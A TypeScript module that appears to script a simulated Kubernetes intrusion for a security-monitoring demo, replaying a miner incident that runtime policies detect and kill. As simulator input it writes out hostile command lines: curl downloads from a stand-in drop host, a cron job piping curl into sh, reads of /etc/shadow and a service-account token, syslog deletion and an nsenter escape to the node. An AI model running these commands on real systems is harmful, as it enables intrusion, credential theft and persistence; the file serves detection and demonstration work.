/**
 * The incident of the sample log, in `default/xwing`: someone gets a shell, fetches a script, the script brings a miner,
 * the miner reaches the node, and a policy kills it. Addresses are from the blocks reserved for documentation.
 */
import type { SimProcess } from './cluster-parts'
import { run, splitCommand, until, type SampleWorld } from './sample-cluster'
import { connect, openFile, preloadKilled, typed, writeFile } from './sample-policies'
import type { SimulatedCluster } from './simulated-cluster'
import { SECOND, type Script } from './simulation'

const DROP_HOST = '198.51.100.7'
const POOL_HOST = '203.0.113.66'

export function* incident(world: SampleWorld): Script {
  const { cluster, xwing } = world
  yield* until(cluster, 22.24)
  const bash = yield* runtimeExec(world)
  yield* until(cluster, 24.29)
  typed(cluster, bash, 'whoami --version')
  yield* until(cluster, 24.3)
  yield* run(cluster, bash, '/usr/bin/whoami --version', 0.02)
  yield* until(cluster, 26.1)
  yield* run(cluster, bash, '/bin/cat /etc/os-release', 0.01)

  yield* until(cluster, 27.89)
  typed(cluster, bash, `curl -s http://${DROP_HOST}/s.sh -o /tmp/.x`)
  yield* until(cluster, 27.9)
  const curl = cluster.exec(bash, '/usr/bin/curl', `-s http://${DROP_HOST}/s.sh -o /tmp/.x`)
  yield 0.08 * SECOND
  connect(cluster, curl, '10.244.1.17', DROP_HOST, 80)
  for (const bytes of [16_384, 9_112]) {
    yield 1.6 * SECOND
    cluster.kprobe(curl, {
      functionName: '__x64_sys_write',
      args: [
        { file_arg: { path: '/tmp/.x', permission: '-rw-r--r--' } },
        { bytes_arg: 'IyEvYmluL3NoCg==' },
        { size_arg: String(bytes) },
      ],
      policyName: 'write-to-tmp',
      returnAction: 'POST',
    })
  }
  yield 0.9 * SECOND
  cluster.exit(curl)
  yield 0.4 * SECOND
  yield* run(cluster, bash, '/bin/chmod 755 /tmp/.x', 0.003)
  yield* until(cluster, 33.09)
  typed(cluster, bash, 'sh /tmp/.x')
  yield* until(cluster, 33.1)
  yield* script(world, bash)

  yield* until(cluster, 70.2)
  yield* run(cluster, bash, '/bin/ps aux', 0.03)
  yield* until(cluster, 71.4)
  const python = cluster.exec(bash, '/usr/bin/python3', '-c "import pty;pty.spawn("/bin/bash")"')
  yield 0.62 * SECOND
  const second = cluster.become(python, '/bin/bash')
  yield* until(cluster, 73.5)
  yield* run(cluster, second, '/bin/ls -la /root/.ssh', 0.006, { status: 2 })
  yield* until(cluster, 75.6)
  const cat = cluster.exec(second, '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')
  yield 0.002 * SECOND
  openFile(cluster, cat, '/run/secrets/kubernetes.io/serviceaccount/token', 'read-service-account-token')
  yield 0.002 * SECOND
  cluster.exit(cat)
  yield* until(cluster, 76.5)
  yield* run(cluster, second, '/usr/bin/tail -f /var/log/auth.log', 1.7, { signal: 'SIGINT' })
  yield* until(cluster, 79.2)
  const api = 'https://10.96.0.1/api/v1/namespaces/kube-system/secrets'
  const ask = cluster.exec(second, '/usr/bin/curl', `-skf -H "Authorization: Bearer not-a-real-token" ${api}`)
  yield 0.01 * SECOND
  connect(cluster, ask, xwingAddress(xwing.init), '10.96.0.1', 443)
  yield 0.3 * SECOND
  cluster.exit(ask, { status: 22 })
}

/** `kubectl exec -it`: runc on the node becomes the container's shell. */
function* runtimeExec({ cluster, xwing }: SampleWorld): Generator<number, SimProcess, void> {
  const root = '--root /run/containerd/runc/k8s.io'
  const args = `${root} exec --process /tmp/runc-process402177 --detach --pid-file /run/pid ${xwing.container.id}`
  const runc = cluster.exec(xwing.shim, '/usr/bin/runc', args, { container: null })
  yield 0.04 * SECOND
  const init = cluster.exec(runc, '/proc/self/fd/6', 'init', { container: null })
  yield 0.03 * SECOND
  const bash = cluster.become(init, '/bin/bash', '', {
    container: xwing.container,
    containerPid: 43,
    inInitTree: false,
  })
  xwing.container.lastPid = 49
  yield 0.01 * SECOND
  cluster.exit(runc)
  return bash
}

/** `/bin/sh /tmp/.x`, until the miner it waits for is gone. */
function* script(world: SampleWorld, bash: SimProcess): Script {
  const { cluster } = world
  const sh = cluster.exec(bash, '/bin/sh', '/tmp/.x')
  yield* until(cluster, 33.34)
  yield* run(cluster, sh, '/usr/bin/id', 0.004)
  yield* until(cluster, 34.6)
  yield* run(cluster, sh, '/usr/bin/find / -perm -4000', 7.2, { status: 1 })
  yield* until(cluster, 42.3)
  const cat = cluster.exec(sh, '/bin/cat', '/etc/shadow')
  yield 0.002 * SECOND
  openFile(cluster, cat, '/etc/shadow', 'sensitive-files')
  yield 0.001 * SECOND
  cluster.exit(cat)
  yield 0.2 * SECOND
  yield* run(cluster, sh, '/bin/sh -c "xmrig --version"', 0.004, { status: 127 })
  yield* run(cluster, sh, '/bin/mkdir -p /tmp/.cache', 0.003)
  yield* run(cluster, sh, `/usr/bin/curl -s http://${DROP_HOST}/k -o /tmp/.cache/kinsing`, 0.5)
  yield* run(cluster, sh, '/bin/chmod +x /tmp/.cache/kinsing', 0.003)
  yield* until(cluster, 43.9)
  cluster.simulation.start(miner(world, sh))
  for (let i = 0; i < 24; i++) {
    yield 0.004 * SECOND
    const sleep = cluster.exec(sh, '/bin/sleep', '1')
    yield SECOND + cluster.random.int(1_500_000)
    cluster.exit(sleep)
  }
  yield* run(cluster, sh, '/bin/rm -f /tmp/.x', 0.004)
  cluster.exit(sh, { status: 1 })
}

function* miner(world: SampleWorld, sh: SimProcess): Script {
  const { cluster } = world
  const kinsing = cluster.exec(sh, '/tmp/.cache/kinsing', '-d --pool', { cwd: '/tmp/.cache' })
  yield 90_000
  cluster.activity('process_lsm', kinsing, {
    function_name: 'bprm_check_security',
    policy_name: 'exec-from-tmp',
    args: [{ linux_binprm_arg: { path: '/tmp/.cache/kinsing', permission: '-rwxr-xr-x' } }],
    action: 'KPROBE_ACTION_POST',
    ima_hash: `sha256:${cluster.random.hex(64)}`,
  })
  yield 0.004 * SECOND
  cluster.activity('process_loader', kinsing, {
    path: '/tmp/.cache/libsystem.so',
    buildid: 'q83vEjRWeJCrze8SNFZ4kKvN7xI=',
  })
  cluster.simulation.start(poolConnections(cluster, kinsing))
  yield* until(cluster, 44.6)
  yield* run(cluster, kinsing, '/bin/rm -rf /var/log/syslog', 0.3)
  yield* until(cluster, 45.7)
  yield* run(cluster, kinsing, '/usr/bin/pkill -9 xmrig', 0.62, { status: 1 })
  yield* until(cluster, 46.8)
  cluster.kprobe(kinsing, { functionName: '__x64_sys_setuid', args: [{ int_arg: 0 }], policyName: 'setuid-root' })
  cluster.activity('process_tracepoint', kinsing, {
    subsys: 'raw_syscalls',
    event: 'sys_enter',
    args: [{ syscall_id: { id: 101, abi: 'x64' } }],
    policy_name: 'ptrace',
    action: 'KPROBE_ACTION_POST',
  })
  yield* until(cluster, 48.2)
  yield* reachNode(world, kinsing)
  yield* until(cluster, 60.5)
  writeFile(cluster, kinsing, '/root/.ssh/authorized_keys', 'persistence')
  yield* until(cluster, 68.02)
  preloadKilled(cluster, kinsing)
  yield 400_000
  cluster.exit(kinsing, { signal: 'SIGKILL' })
}

/** Out of the container: the shell runs in the node's namespaces, as a process without a pod. */
function* reachNode({ cluster }: SampleWorld, kinsing: SimProcess): Script {
  const nsenter = cluster.exec(kinsing, '/usr/bin/nsenter', '-t 1 -m -u -n -i -p sh')
  yield 0.6 * SECOND
  const sh = cluster.exec(nsenter, '/bin/sh', '', { container: null })
  yield 0.9 * SECOND
  yield* run(cluster, sh, '/usr/local/bin/crictl ps -q', 0.4)
  yield 0.7 * SECOND
  const tee = cluster.exec(sh, '/usr/bin/tee', '/etc/cron.d/0kinsing')
  yield 0.003 * SECOND
  writeFile(cluster, tee, '/etc/cron.d/0kinsing', 'persistence')
  yield 0.002 * SECOND
  cluster.exit(tee)
  yield* until(cluster, 56.1)
  cluster.exit(sh, { signal: 'SIGKILL' })
  yield 1_200_000
  cluster.exit(nsenter, { signal: 'SIGKILL' })
}

/** What the miner left in the node's crontab runs on the minute: cron forks, the fork starts a shell. */
export function* nodeCron({ cluster, nodeA }: SampleWorld): Script {
  yield* until(cluster, 61.004)
  const fork = cluster.fork(nodeA.cron)
  yield 0.004 * SECOND
  const shell = cluster.exec(fork, ...splitCommand(`/bin/sh -c "curl -fsS http://${DROP_HOST}/k.sh | sh"`), {
    cwd: '/root',
  })
  yield 0.002 * SECOND
  const pipe = cluster.exec(shell, '/bin/sh', '', { cwd: '/root' })
  const curl = cluster.exec(shell, '/usr/bin/curl', `-fsS http://${DROP_HOST}/k.sh`, { cwd: '/root' })
  yield 0.01 * SECOND
  connect(cluster, curl, '172.18.0.2', DROP_HOST, 80)
  yield 6.1 * SECOND
  cluster.exit(curl, { status: 28 })
  yield 700_000
  cluster.exit(pipe)
  yield 500_000
  cluster.exit(shell)
  yield 400_000
  cluster.exit(fork)
}

function* poolConnections(cluster: SimulatedCluster, kinsing: SimProcess): Script {
  for (let second = 44.8; second < 67; second += 2.1 + cluster.random.float()) {
    yield* until(cluster, second)
    connect(cluster, kinsing, xwingAddress(kinsing), POOL_HOST, 3333)
  }
}

function xwingAddress(process: SimProcess): string {
  return process.container === undefined ? '172.18.0.2' : '10.244.1.17'
}
